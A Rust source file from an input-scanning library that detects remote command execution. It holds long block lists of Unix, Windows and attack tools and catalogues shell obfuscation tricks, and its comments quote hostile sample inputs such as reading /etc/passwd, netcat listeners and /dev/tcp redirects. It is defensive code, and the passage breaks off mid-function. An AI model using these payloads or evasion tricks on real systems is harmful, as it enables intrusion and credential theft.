//! Remote command execution: commands after shell separators or as a whole command line,
//! binaries by path, substitutions, shell quoting tricks, Windows `cmd`/PowerShell/batch forms,
//! mail protocol injection, and server-side template / expression-language injection and Log4j
//! JNDI lookups (they run code on the server, as a command does).

use super::{is_word, Rules};
use crate::lexicon::{Family, Hit};

/// Commands a value should not carry: Unix tools (coreutils, shells, interpreters, network and
/// admin tools, the GTFOBins kind) and Windows ones. Matched after a shell separator, or at the
/// start of a value with shell-like arguments.
pub(super) const STRONG_COMMANDS: &[&str] = &[
    "wget",
    "curl",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "ash",
    "fish",
    "yash",
    "posh",
    "elvish",
    "busybox",
    "sh",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "iwconfig",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "lsattr",
    "setfacl",
    "getfacl",
    "nslookup",
    "passwd",
    "chpasswd",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "luajit",
    "node",
    "nodejs",
    "deno",
    "bun",
    "irb",
    "pry",
    "jjs",
    "jrunscript",
    "tclsh",
    "wish",
    "expect",
    "gdb",
    "lldb",
    "strace",
    "ltrace",
    "valgrind",
    "nmap",
    "masscan",
    "nikto",
    "hydra",
    "hashcat",
    "msfconsole",
    "msfvenom",
    "sqlmap",
    "telnet",
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "deluser",
    "groupadd",
    "groupdel",
    "visudo",
    "crontab",
    "sudo",
    "doas",
    "su",
    "systemctl",
    "journalctl",
    "loginctl",
    "timedatectl",
    "hostnamectl",
    "pkill",
    "killall",
    "nohup",
    "base64",
    "base32",
    "basenc",
    "xxd",
    "hexdump",
    "mkfifo",
    "mknod",
    "tftp",
    "ftp",
    "lftp",
    "sftp",
    "scp",
    "ssh",
    "sshpass",
    "ssh-keygen",
    "ssh-keyscan",
    "ssh-agent",
    "rsync",
    "gcc",
    "g++",
    "cc",
    "c89",
    "c99",
    "clang",
    "tcc",
    "nasm",
    "ld",
    "chroot",
    "unshare",
    "nsenter",
    "capsh",
    "setarch",
    "lsof",
    "netstat",
    "iptables",
    "ip6tables",
    "nft",
    "ufw",
    "tcpdump",
    "tshark",
    "ss",
    "route",
    "arp",
    "traceroute",
    "mtr",
    "fping",
    "hping3",
    "whois",
    "dig",
    "host",
    "ping",
    "getent",
    "lastlog",
    "last",
    "finger",
    "pstree",
    "ps",
    "top",
    "htop",
    "free",
    "uptime",
    "vmstat",
    "iostat",
    "dmesg",
    "dmidecode",
    "lspci",
    "lsusb",
    "lsblk",
    "fdisk",
    "mkfs",
    "mount",
    "umount",
    "blkid",
    "printenv",
    "env",
    "export",
    "set",
    "unset",
    "alias",
    "history",
    "id",
    "groups",
    "users",
    "who",
    "w",
    "cat",
    "tac",
    "rev",
    "od",
    "strings",
    "head",
    "tail",
    "more",
    "less",
    "nl",
    "sort",
    "uniq",
    "cut",
    "paste",
    "tr",
    "sed",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "find",
    "locate",
    "xargs",
    "tee",
    "wc",
    "diff",
    "cmp",
    "comm",
    "split",
    "csplit",
    "shuf",
    "fold",
    "fmt",
    "column",
    "expand",
    "unexpand",
    "ls",
    "dir",
    "vdir",
    "stat",
    "file",
    "du",
    "df",
    "touch",
    "mkdir",
    "rmdir",
    "rm",
    "mv",
    "cp",
    "ln",
    "install",
    "dd",
    "shred",
    "truncate",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "xz",
    "7z",
    "cpio",
    "ar",
    "unrar",
    "zcat",
    "zless",
    "zgrep",
    "bzcat",
    "openssl",
    "gpg",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "kill",
    "sleep",
    "echo",
    "printf",
    "yes",
    "timeout",
    "time",
    "watch",
    "nice",
    "renice",
    "ionice",
    "taskset",
    "stdbuf",
    "setsid",
    "flock",
    "script",
    "screen",
    "tmux",
    "tmate",
    "vi",
    "vim",
    "nvim",
    "vimdiff",
    "rvim",
    "rview",
    "view",
    "ex",
    "ed",
    "nano",
    "pico",
    "emacs",
    "joe",
    "mcedit",
    "apt",
    "apt-get",
    "aptitude",
    "dpkg",
    "rpm",
    "yum",
    "dnf",
    "zypper",
    "pacman",
    "apk",
    "opkg",
    "snap",
    "flatpak",
    "pip",
    "pip3",
    "gem",
    "npm",
    "npx",
    "yarn",
    "pnpm",
    "composer",
    "cargo",
    "go",
    "make",
    "cmake",
    "ant",
    "mvn",
    "gradle",
    "java",
    "javac",
    "jar",
    "docker",
    "podman",
    "kubectl",
    "helm",
    "lxc",
    "virsh",
    "vagrant",
    "terraform",
    "ansible",
    "ansible-playbook",
    "ansible-config",
    "ansible-galaxy",
    "chef",
    "knife",
    "puppet",
    "salt",
    "salt-call",
    "git",
    "svn",
    "hg",
    "mysql",
    "psql",
    "sqlite3",
    "redis-cli",
    "mongo",
    "mongosh",
    "cqlsh",
    "isql",
    "sqlplus",
    "mail",
    "mailx",
    "sendmail",
    "mutt",
    "wall",
    "write",
    "mesg",
    "logger",
    "at",
    "batch",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "telinit",
    "service",
    "update-rc.d",
    "chkconfig",
    "runlevel",
    "ldconfig",
    "ldd",
    "readelf",
    "objdump",
    "nm",
    "gdbserver",
    "perf",
    "bpftrace",
    "sysctl",
    "modprobe",
    "insmod",
    "rmmod",
    "lsmod",
    "sestatus",
    "setenforce",
    "getenforce",
    "aa-disable",
    "aa-enforce",
    "aa-complain",
    "aa-status",
    "auditctl",
    "base58",
    "bc",
    "dc",
    "units",
    "factor",
    "jq",
    "yq",
    "xmllint",
    "xsltproc",
    "pandoc",
    "latex",
    "pdflatex",
    "xelatex",
    "tex",
    "man",
    "info",
    "links",
    "lynx",
    "w3m",
    "elinks",
    "aria2c",
    "axel",
    "wput",
    "ncftp",
    "smbclient",
    "rpcclient",
    "enum4linux",
    "crackmapexec",
    "impacket-psexec",
    "evil-winrm",
    "certbot",
    "openvpn",
    "wg",
    "cowsay",
    "cowthink",
    "neofetch",
    "screenfetch",
    "ncdu",
    "iftop",
    "nethogs",
    "nload",
    "bmon",
    "dstat",
    "pidstat",
    "mpstat",
    "sar",
    "iotop",
    "atop",
    "glances",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "net",
    "net1",
    "netsh",
    "reg",
    "findstr",
    "regedit",
    "regini",
    "sc",
    "schtasks",
    "tasklist",
    "taskkill",
    "systeminfo",
    "nltest",
    "dsquery",
    "vssadmin",
    "wevtutil",
    "bcdedit",
    "bcdboot",
    "diskpart",
    "icacls",
    "cacls",
    "takeown",
    "attrib",
    "xcopy",
    "robocopy",
    "msiexec",
    "msbuild",
    "installutil",
    "regasm",
    "regsvcs",
    "forfiles",
    "pcalua",
    "cmstp",
    "odbcconf",
    "mavinject",
    "hh",
    "iex",
    "iwr",
    "irm",
    "ver",
    "type",
    "del",
    "copy",
    "move",
    "ren",
    "start",
    "call",
    "for",
    "pwd",
    "lsb_release",
    "getconf",
    "mkpasswd",
    "openvt",
    "runuser",
    "sudoedit",
    "chsh",
    "chfn",
    "newgrp",
    "pkexec",
    "dbus-send",
    "busctl",
    "systemd-run",
    "logrotate",
    "crond",
    "anacron",
    "atq",
    "atrm",
    "pgrep",
    "pidof",
    "fuser",
    "nproc",
    "lscpu",
    "tree",
    "realpath",
    "readlink",
    "basename",
    "dirname",
    "mktemp",
    "seq",
    "iconv",
    "recode",
    "dos2unix",
    "uuencode",
    "uudecode",
    "mimencode",
    "gpg2",
    "ssh-copy-id",
    "sshfs",
    "httpie",
    "aria2c",
    "youtube-dl",
    "yt-dlp",
    "ffmpeg",
    "magick",
    "ghostscript",
    "pdftk",
    "exiftool",
    "7za",
    "rar",
    "lz4",
    "zstd",
    "brotli",
    "unxz",
    "xzcat",
    "bsdtar",
    "pax",
    "nmcli",
    "iwlist",
    "ethtool",
    "tc",
    "conntrack",
    "ipset",
    "arping",
    "tracepath",
    "nping",
    "zmap",
    "dnsenum",
    "dnsrecon",
    "fierce",
    "wpscan",
    "gobuster",
    "dirb",
    "ffuf",
    "wfuzz",
    "responder",
    "mimikatz",
    "bloodhound",
    "psexec",
    "wmiexec",
    "smbexec",
    "secretsdump",
    "kerbrute",
    "chisel",
    "ngrok",
    "frpc",
    "proxychains",
    "torsocks",
    "torify",
    "socat",
    "openssl",
    "s_client",
    "msfdb",
    "searchsploit",
    "john",
    "unshadow",
    "hashid",
    "hash-identifier",
    "medusa",
    "ncrack",
    "patator",
    "crunch",
    "cewl",
    "wordlists",
    "hexedit",
    "bvi",
    "radare2",
    "r2",
    "objcopy",
    "strace",
    "ltrace",
    "gdbserver",
    "checksec",
    "ropper",
    "pwntools",
    "one_gadget",
    "setcap",
    "getcap",
    "capsh",
    "auditd",
    "ausearch",
    "aureport",
    "last",
    "lastb",
    "faillog",
    "pam_tally2",
    "chage",
    "userdbctl",
    "homectl",
    "machinectl",
    "nspawn",
    "systemd-nspawn",
    "lxc-attach",
    "docker-compose",
    "podman-compose",
    "kubeadm",
    "kubelet",
    "minikube",
    "kind",
    "k3s",
    "crictl",
    "ctr",
    "runc",
    "etcdctl",
    "consul",
    "vault",
    "nomad",
];

/// Commands that are also everyday words (or names of languages and products): they count only
/// with a shell-looking argument after them or as the whole remainder of a separator (`;id`).
pub(super) const WEAK_COMMANDS: &[&str] = &[
    "as",
    "ar",
    "at",
    "bc",
    "cat",
    "comm",
    "column",
    "date",
    "diff",
    "ed",
    "expand",
    "expect",
    "file",
    "find",
    "fish",
    "fold",
    "fmt",
    "format",
    "free",
    "grep",
    "groups",
    "head",
    "history",
    "host",
    "install",
    "join",
    "kill",
    "last",
    "less",
    "links",
    "look",
    "mail",
    "make",
    "man",
    "more",
    "mount",
    "nano",
    "nice",
    "paste",
    "pr",
    "red",
    "rev",
    "script",
    "screen",
    "set",
    "sort",
    "split",
    "start",
    "tail",
    "task",
    "tee",
    "time",
    "top",
    "touch",
    "type",
    "users",
    "view",
    "wall",
    "watch",
    "wc",
    "which",
    "who",
    "w",
    "yes",
    "zip",
    "id",
    "ps",
    "ls",
    "rm",
    "mv",
    "cp",
    "ln",
    "dd",
    "df",
    "du",
    "nl",
    "tr",
    "od",
    "vi",
    "ex",
    "cut",
    "env",
    "sed",
    "awk",
    "tar",
    "git",
    "node",
    "ruby",
    "java",
    "php",
    "python",
    "perl",
    "lua",
    "mysql",
    "docker",
    "helm",
    "vagrant",
    "latex",
    "info",
    "finger",
    "route",
    "ping",
    "dig",
    "echo",
    "printf",
    "sleep",
    "stat",
    "dir",
    "vdir",
    "call",
    "for",
    "copy",
    "move",
    "del",
    "ren",
    "ver",
    "net",
    "sc",
    "reg",
    "init",
    "service",
    "apt",
    "batch",
    "logger",
    "write",
    "units",
    "factor",
    "jar",
    "go",
    "gem",
    "npm",
    "pip",
    "cargo",
    "chef",
    "knife",
    "puppet",
    "salt",
    "snap",
    "ip",
    "ss",
    "su",
    "alias",
    "export",
    "unset",
    "apk",
    "dc",
    "hash",
    "jq",
    "wish",
    "yarn",
    "ash",
    "dash",
    "bash",
    "posh",
    "elvish",
    "bun",
    "pry",
    "ruby",
    "hydra",
    "lynx",
    "strings",
    "shred",
    "flock",
    "joe",
    "rpm",
    "yum",
    "pacman",
    "composer",
    "ant",
    "mongo",
    "mutt",
    "reboot",
    "halt",
    "perf",
    "axel",
    "glances",
    "atop",
    "sar",
    "timeout",
    "vim",
    "nano",
    "pico",
    "clang",
    "ld",
    "nft",
    "mtr",
    "nm",
    "tex",
    "locate",
    "terraform",
    "emacs",
    "screen",
    "curl",
    "command",
    "builtin",
    "unbuffer",
];

/// PowerShell and Windows forms that mean command execution anywhere.
pub(crate) const WINDOWS_MARKERS: &[&str] = &[
    "invoke-webrequest",
    "invoke-expression",
    "invoke-restmethod",
    "invoke-command",
    "invoke-item",
    "new-object",
    "start-process",
    "set-executionpolicy",
    "downloadstring",
    "downloadfile",
    "net.webclient",
    "-encodedcommand",
    "%comspec%",
    "%systemroot%",
    "%systemdrive%",
    "%windir%",
    "cmd.exe",
    "cmd /c",
    "cmd/c",
    "powershell",
    "system.diagnostics.process",
    "get-childitem",
    "get-content",
    "get-process",
    "get-service",
    "get-wmiobject",
    "get-ciminstance",
    "get-item",
    "get-itemproperty",
    "get-acl",
    "get-credential",
    "get-clipboard",
    "get-history",
    "get-localuser",
    "get-localgroup",
    "get-aduser",
    "get-adcomputer",
    "get-nettcpconnection",
    "get-nettcpconnection",
    "get-psdrive",
    "get-hotfix",
    "get-eventlog",
    "get-winevent",
    "get-executionpolicy",
    "get-mppreference",
    "set-content",
    "set-item",
    "set-itemproperty",
    "set-mppreference",
    "set-acl",
    "set-alias",
    "set-variable",
    "new-item",
    "new-itemproperty",
    "new-psdrive",
    "new-service",
    "new-localuser",
    "new-pssession",
    "new-scheduledtask",
    "remove-item",
    "remove-itemproperty",
    "remove-mppreference",
    "invoke-wmimethod",
    "invoke-cimmethod",
    "invoke-mimikatz",
    "invoke-shellcode",
    "invoke-obfuscation",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-job",
    "start-bitstransfer",
    "start-service",
    "stop-process",
    "stop-service",
    "out-file",
    "out-string",
    "write-output",
    "write-host",
    "add-type",
    "add-content",
    "add-mppreference",
    "copy-item",
    "move-item",
    "rename-item",
    "test-path",
    "test-connection",
    "test-netconnection",
    "import-module",
    "export-csv",
    "convertto-securestring",
    "convertfrom-securestring",
    "select-string",
    "enter-pssession",
    "register-scheduledtask",
    "unblock-file",
    "expand-archive",
    "compress-archive",
    "resolve-dnsname",
    "send-mailmessage",
    "[system.convert]::frombase64string",
    "[convert]::frombase64string",
    "[system.text.encoding]",
    "[reflection.assembly]",
    "system.net.sockets.tcpclient",
    "system.net.webclient",
    "-executionpolicy",
    "-windowstyle",
    "-noprofile",
    "-noninteractive",
    "-nop",
    "-enc",
];

impl Rules {
    /// Remote command execution. `s` is canonical, lower-cased.
    /// `cs`: the value's punctuation summary.
    pub(crate) fn rce(
        &self,
        s: &[u8],
        hits: Option<&[Hit]>,
        cs: crate::chars::Chars,
        tmp: &mut Vec<u8>,
    ) -> Option<&'static str> {
        use crate::chars::*;
        let f = crate::find;
        // Shellshock.
        if cs.any(PAREN) && (f(s, b"() {").is_some() || f(s, b"(){").is_some()) {
            return Some("rce-shellshock");
        }
        if cs.any(BRACE | LT | HASH) {
            if let Some(r) = template_injection(s, cs) {
                return Some(r);
            }
        }
        if cs.any(DOT) && runtime_reflection(s) {
            return Some("rce-template-injection");
        }
        let mut own = Vec::new();
        let hits = match hits {
            Some(h) => h,
            None => {
                self.lexicon.scan(s, &mut own);
                &own[..]
            }
        };
        for m in hits.iter().filter(|h| h.family == Family::Windows) {
            let before = m.start.checked_sub(1).map(|i| s[i]);
            if before.is_none_or(|c| !is_word(c)) {
                return Some("rce-windows");
            }
        }
        if cs.any(DOLLAR) && SHELL_VARS.iter().any(|v| f(s, v).is_some()) {
            return Some("rce-shell-variable");
        }
        // Undo the quoting tricks shells ignore: c\at, c''at, c""at, ca$@t, $u, ${x}, 'cu'rl,
        // pi``ng, pi$()ng, ${}.
        // PowerShell's format operator reassembling a word: `("{1}{0}" -f 'x','ie')`.
        if cs.any(BRACE) && f(s, b"{0}").is_some() && f(s, b"{1}").is_some() {
            if let Some(p) = f(s, b"-f ") {
                if f(&s[p..], b"'").or_else(|| f(&s[p..], b"\"")).is_some() {
                    return Some("rce-windows");
                }
            }
        }
        if !cs.any(BACKSLASH | QUOTE | DOLLAR | LT | GT) && memchr::memchr(b'^', s).is_none() {
            return self.rce_unquoted(s, cs, false);
        }
        tmp.clear();
        let mut i = 0;
        // Whether a word had an empty construct, a special parameter or a quote pair cut into
        // it (`pi``ng`, `ca$@t`, `""p""y`): no one types that but to hide a command.
        let mut obfuscated = false;
        while i < s.len() {
            let c = s[i];
            let word_before = i > 0 && s[i - 1].is_ascii_alphanumeric();
            // `$IFS`/`${IFS}` is a blank to the shell (the variable check reports it too).
            if c == b'$' {
                let ifs = if s[i + 1..].starts_with(b"{ifs}") {
                    6
                } else if s[i + 1..].starts_with(b"ifs")
                    && s.get(i + 4).is_none_or(|n| !is_word(*n))
                {
                    4
                } else {
                    0
                };
                if ifs > 0 {
                    tmp.push(b' ');
                    obfuscated = true;
                    i += ifs;
                    continue;
                }
            }
            // cmd.exe drops a caret before a character: `w^h^o^a^m^i`.
            if c == b'^' && word_before && s.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
                obfuscated = true;
                i += 1;
                continue;
            }
            // A backslash-newline is a line continuation: `c\<LF>at`.
            if c == b'\\' && matches!(s.get(i + 1), Some(b'\n')) {
                obfuscated |= word_before;
                i += 2;
                continue;
            }
            // ANSI-C and locale quoting: `$'whoami'`, `$"id"` are quoted words.
            if c == b'$' && matches!(s.get(i + 1), Some(b'\'' | b'"')) {
                i += 1;
                continue;
            }
            // Empty constructs expand to nothing: `` ``, $(), <(), >(), ${}, and '' / "" at a
            // word's edge (`""p""y`).
            let empty = match (c, s.get(i + 1), s.get(i + 2)) {
                (b'`', Some(b'`'), _) => 2,
                (b'$' | b'<' | b'>', Some(b'('), Some(b')')) => 3,
                (b'$', Some(b'{'), Some(b'}')) => 3,
                (b'\'' | b'"', Some(&d), n)
                    if d == c && (word_before || n.is_some_and(|n| n.is_ascii_alphanumeric())) =>
                {
                    2
                }
                _ => 0,
            };
            if empty > 0 {
                // Quote pairs count inside a word (prose writes `''quoted''`); the other empty
                // constructs at either edge of one (`ping$() x`).
                let word_after = s.get(i + empty).is_some_and(|n| is_word(*n));
                obfuscated |= if c == b'\'' || c == b'"' {
                    word_before && word_after
                } else {
                    word_before || word_after
                };
                i += empty;
                continue;
            }
            // A quoted word is the word: `;'curl' x`, `kill '-'9`, `"who"ami`.
            if c == b'\'' || c == b'"' {
                if let Some(q) = s[i + 1..s.len().min(i + 22)].iter().position(|&d| d == c) {
                    let inner = &s[i + 1..i + 1 + q];
                    if q > 0
                        && inner
                            .iter()
                            .all(|&d| d.is_ascii_alphanumeric() || matches!(d, b'-' | b'_' | b'.'))
                        && s.get(i + q + 2).is_none_or(|&n| {
                            n.is_ascii_alphanumeric()
                                || n.is_ascii_whitespace()
                                || n == b'\''
                                || n == b'"'
                                || matches!(n, b';' | b'|' | b'&' | b',' | b'}' | b')')
                        })
                    {
                        obfuscated |= word_before || s.get(i + q + 2).is_some_and(|n| is_word(*n));
                        tmp.extend_from_slice(inner);
                        i += q + 2;
                        continue;
                    }
                }
            }
            if c == b'\\'
                && s.get(i + 1)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
            {
                i += 1;
                continue;
            }
            if c == b'$' && i > 0 && is_word(s[i - 1]) {
                // Special parameters expand to nothing in a word: ca$@t, c$!at, c$-at.
                if matches!(
                    s.get(i + 1),
                    Some(b'@' | b'*' | b'#' | b'?' | b'!' | b'$' | b'-' | b'_' | b'0'..=b'9')
                ) {
                    obfuscated = true;
                    i += 2;
                    continue;
                }
                // Unset short variables glued to a word: cat$u, /etc$u/passwd, ${x}.
                let mut j = i + 1;
                if s.get(j) == Some(&b'{') {
                    if let Some(q) = memchr::memchr(b'}', &s[j..s.len().min(j + 13)]) {
                        i = j + q + 1;
                        continue;
                    }
                } else {
                    while j < s.len() && j < i + 4 && s[j].is_ascii_alphabetic() {
                        j += 1;
                    }
                    if j > i + 1 && s.get(j).is_none_or(|&c| !is_word(c)) {
                        i = j;
                        continue;
                    }
                }
            }
            tmp.push(c);
            i += 1;
        }
        let t = std::mem::take(tmp);
        let r = self.rce_unquoted(&t, crate::chars::summary(&t), obfuscated);
        *tmp = t;
        r
    }

    /// `obfuscated`: the value had shell obfuscation inside a word (see [`Self::rce`]).
    fn rce_unquoted(
        &self,
        t: &[u8],
        cs: crate::chars::Chars,
        obfuscated: bool,
    ) -> Option<&'static str> {
        use crate::chars::*;
        let f = crate::find;
        for v in if cs.any(DOLLAR) { &SHELL_VARS[..] } else { &[] } {
            if f(t, v).is_some() {
                return Some("rce-shell-variable");
            }
        }
        if cs.any(PERCENT | EQ | SPACE) {
            if let Some(r) = batch(t) {
                return Some(r);
            }
        }
        if cs.any(NEWLINE) {
            if let Some(r) = mail_protocol(t) {
                return Some(r);
            }
        }
        if cs.any(SLASH) {
            // Bash's network redirections: `exec 5<>/dev/tcp/host/port`, `>& /dev/udp/..`.
            if f(t, b"/dev/").is_some()
                && (f(t, b"/dev/tcp/").is_some() || f(t, b"/dev/udp/").is_some())
            {
                return Some("rce-network-redirect");
            }
            // A path spelled with globs that a shell expands to a binary: `/???/c?t`,
            // `/?s?/?i?/w??mi`.
            if cs.any(QUESTION | STAR | BRACKET) {
                let mut from = 0;
                while let Some(p) = memchr::memchr(b'/', &t[from..]) {
                    let p = from + p;
                    from = p + 1;
                    // Only where a path starts, not at each of its slashes.
                    if p > 0
                        && (is_word(t[p - 1])
                            || matches!(t[p - 1], b'/' | b'.' | b'?' | b'*' | b'[' | b']' | b'-'))
                    {
                        continue;
                    }
                    let end = t[p..]
                        .iter()
                        .take(64)
                        .position(|&c| {
                            !(is_word(c)
                                || matches!(c, b'/' | b'?' | b'*' | b'[' | b']' | b'-' | b'.'))
                        })
                        .map_or(t.len().min(p + 64), |e| p + e);
                    if glob_path_is_binary(&t[p..end]) {
                        return Some("rce-binary-path");
                    }
                    if glob_names_sensitive_file(&t[p..end]) {
                        return Some("rce-glob-file");
                    }
                }
            }
        }
        // Absolute paths to binaries: /bin/sh, /usr/bin/id, with globs: /bin/ca?
        for dir in if cs.any(SLASH) { &BIN_DIRS[..] } else { &[] } {
            if let Some(p) = f(t, dir) {
                let after = &t[p + dir.len()..];
                let before = p.checked_sub(1).map(|i| t[i]);
                if after.first().is_some_and(|c| {
                    c.is_ascii_alphanumeric() || *c == b'?' || *c == b'*' || *c == b'['
                }) && before.is_none_or(|c| !is_word(c) && c != b'.')
                {
                    return Some("rce-binary-path");
                }
            }
        }
        // Command substitution: $( ... ) and `...`.
        if let Some(p) = if cs.any(DOLLAR) { f(t, b"$(") } else { None } {
            let inner = &t[p + 2..];
            // What runs inside is a command, or a path, options, variables or a pipeline; a
            // parenthesised word after a dollar sign is a price (`$(cheap)`).
            if let Some(close) = memchr::memchr(b')', inner) {
                let body = &inner[..close];
                if body.first().is_some_and(|c| *c == b'/' || *c == b'(')
                    || body.first().is_some_and(u8::is_ascii_alphabetic)
                        && (self.command_at(body, true).is_some()
                            || body.iter().any(|c| {
                                matches!(c, b'/' | b'-' | b'$' | b'|' | b';' | b'`' | b'\'')
                            }))
                {
                    return Some("rce-substitution");
                }
            }
        }
        if let Some(p) = memchr::memchr(b'`', t) {
            if let Some(q) = memchr::memchr(b'`', &t[p + 1..]) {
                let inner = t[p + 1..p + 1 + q].trim_ascii();
                if self.command_at(inner, true).is_some() {
                    return Some("rce-substitution");
                }
            }
        }
        // A command after a shell separator, or a command line that is the whole value.
        let mut at = 0;
        // The whole value as a command line: quotes and brace expansion around it do not
        // matter to a shell (`'time' sh -c id`, `{nc,-lvp,777}`).
        let start = {
            let mut k = 0;
            while k < t.len() && matches!(t[k], b'\'' | b'"' | b' ' | b'\t') {
                k += 1;
            }
            &t[k..]
        };
        // Brace expansion anywhere: `{cat,/etc/passwd}`, `x;{nc,-lvp,9}`.
        if cs.any(BRACE) {
            let mut from = 0;
            while let Some(p) = memchr::memchr(b'{', &t[from..]) {
                let inner = &t[from + p + 1..t.len().min(from + p + 1 + 256)];
                from += p + 1;
                // `{,cmd,arg}`: an empty first element expands to nothing.
                let inner = &inner[inner.iter().take_while(|&&c| c == b',').count()..];
                if inner.first() == Some(&b'/') {
                    if let Some(w) = inner.iter().take(40).position(|&c| c == b',') {
                        if glob_path_is_binary(&inner[..w]) {
                            return Some("rce-binary-path");
                        }
                    }
                }
                let w = inner.iter().take(25).position(|&c| c == b',').unwrap_or(0);
                if w > 0
                    && memchr::memchr(b'}', inner).is_some_and(|c| c > w)
                    && self.command_name(&inner[..w]).is_some()
                {
                    return Some("rce-command");
                }
            }
        }
        if let Some(inner) = start.strip_prefix(b"{") {
            if self.command_at(inner, true).is_some() && memchr::memchr(b',', inner).is_some() {
                return Some("rce-command");
            }
        }
        // One lookup decides whether the value starts with a command at all.
        let first_end = start
            .iter()
            .position(|&c| {
                !(c.is_ascii_alphanumeric()
                    || matches!(c, b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']'))
            })
            .unwrap_or(start.len());
        let starts_with_command = first_end > 0
            && self
                .command_name(start[..first_end].trim_ascii_end())
                .is_some()
            || start[..first_end].ends_with(b".")
                && self.command_name(&start[..first_end - 1]).is_some();
        // A lone word (`nc`, `r2`: a state code, a product name) is no command line: without a
        // space or a shell metacharacter nothing runs with arguments or chains.
        let lone_word = !start.iter().any(|&c| {
            c.is_ascii_whitespace()
                || matches!(
                    c,
                    b';' | b'|'
                        | b'&'
                        | b'$'
                        | b'`'
                        | b'<'
                        | b'>'
                        | b'('
                        | b')'
                        | b'{'
                        | b'}'
                        | b'/'
                        | b'\\'
                        | b'\''
                        | b'"'
                        | b','
                        | b'+'
                )
        });
        // An obfuscated value that starts with any command, even an everyday word
        // (`pi``ng 10.0.0.1`, `k''ill -9 1`).
        if starts_with_command && obfuscated {
            return Some("rce-command");
        }
        // Any command with a GNU long option (`env --version`, `ruby --disable-gems x`): prose
        // does not glue `--` to a word.
        if starts_with_command {
            let arg = &start[first_end..];
            let opt = arg.trim_ascii_start();
            if opt.len() < arg.len()
                && opt.starts_with(b"--")
                && opt.len() >= 4
                && opt[2..4].iter().all(u8::is_ascii_alphabetic)
            {
                return Some("rce-command");
            }
        }
        if starts_with_command
            && !lone_word
            && (self.command_at(start, false) == Some(true)
                || self.prefixed_command(start)
                || self.technical_command(start))
        {
            return Some("rce-command");
        }
        if let Some(rest) = start
            .strip_prefix(b"bin/")
            .or_else(|| start.strip_prefix(b"sbin/"))
        {
            if rest.first().is_some_and(|c| c.is_ascii_alphabetic()) {
                return Some("rce-binary-path");
            }
        }
        if !cs.any(SEMI | NEWLINE | BACKTICK | PIPE | AMP | DOLLAR | LT | GT) {
            return None;
        }
        // Where the value's text starts: a separator before it opens the value.
        let first_text = t
            .iter()
            .position(|c| !c.is_ascii_whitespace())
            .unwrap_or(t.len());
        while at < t.len() {
            let c = t[at];
            let sep_len = match c {
                b';' | b'\n' | b'`' => 1,
                b'|' | b'&' => {
                    if t.get(at + 1) == Some(&c) {
                        2
                    } else {
                        1
                    }
                }
                b'$' if t.get(at + 1) == Some(&b'(') => 2,
                b'>' | b'<' if t.get(at + 1) == Some(&b'(') => 2,
                _ => 0,
            };
            if sep_len > 0 {
                let rest = &t[at + sep_len..];
                let blanks = rest
                    .iter()
                    .take(16)
                    .take_while(|c| c.is_ascii_whitespace())
                    .count();
                let rest = &rest[blanks..];
                // Tolerate a leading `.`/`{`/`(`/`!`/`-` grouping: `;{cat,/etc/passwd}`.
                let rest = rest
                    .strip_prefix(b"{")
                    .or_else(|| rest.strip_prefix(b"("))
                    .or_else(|| rest.strip_prefix(b". "))
                    .unwrap_or(rest);
                if self.command_at(rest, true).is_some()
                    || self.variable_command(t, rest)
                    || delay_probe(rest, blanks == 0)
                    // (A newline does not count: a textarea may start with a blank line;
                    // brands start with `&`.)
                    || (at <= first_text
                        && matches!(c, b';' | b'|')
                        && self.leading_command(rest))
                {
                    return Some("rce-command");
                }
                at += sep_len;
            } else {
                at += 1;
            }
        }
        None
    }

    /// Whether `s` starts with a command. With `after_sep`, a strong command counts as it is and
    /// a weak one with a shell-looking argument or nothing after it; without, only a command
    /// with a shell-looking argument counts (returned as `Some(true)`).
    fn command_at(&self, s: &[u8], after_sep: bool) -> Option<bool> {
        let mut end = 0;
        while end < s.len()
            && (s[end].is_ascii_alphanumeric()
                || matches!(s[end], b'-' | b'_' | b'.' | b'?' | b'*' | b'[' | b']'))
        {
            end += 1;
        }
        if end == 0 {
            return None;
        }
        let mut word = &s[..end];
        // A path prefix: ./x, ~/x are handled by the caller; strip trailing dots.
        while word.last() == Some(&b'.') {
            word = &word[..word.len() - 1];
        }
        let word = self.command_name(word)?;
        let weak = self.weak.contains(word);
        let mut rest = &s[end..];
        // A `+` left over from form encoding stands for a blank: `cat+/etc/passwd`.
        if rest.first() == Some(&b'+')
            && rest
                .get(1)
                .is_some_and(|&c| matches!(c, b'/' | b'-' | b'$' | b'~' | b'.'))
        {
            rest = &rest[1..];
            return self.command_args(word, weak, rest, true, after_sep);
        }
        let arg = rest.trim_ascii_start();
        let spaced = rest.len() != arg.len() || rest.first().is_some_and(|&c| c == b'\t');
        self.command_args(word, weak, rest, spaced, after_sep)
    }

    /// The second half of [`Self::command_at`]: whether what follows command `word` makes it a
    /// command line. `spaced`: a blank separates them.
    fn command_args(
        &self,
        word: &[u8],
        weak: bool,
        rest: &[u8],
        spaced: bool,
        after_sep: bool,
    ) -> Option<bool> {
        let arg = rest.trim_ascii_start();
        // A shell or interpreter given code inline: `bash -c ...`, `perl -e ...`, `php -r`.
        if spaced && inline_code_flag(word, arg) {
            return Some(true);
        }
        let shell_arg = arg.first().is_some_and(|&c| {
            matches!(
                c,
                b'-' | b'/'
                    | b'$'
                    | b'~'
                    | b'.'
                    | b'>'
                    | b'<'
                    | b'|'
                    | b';'
                    | b'&'
                    | b'`'
                    | b'\''
                    | b'"'
                    | b'*'
                    | b'{'
                    | b'+'
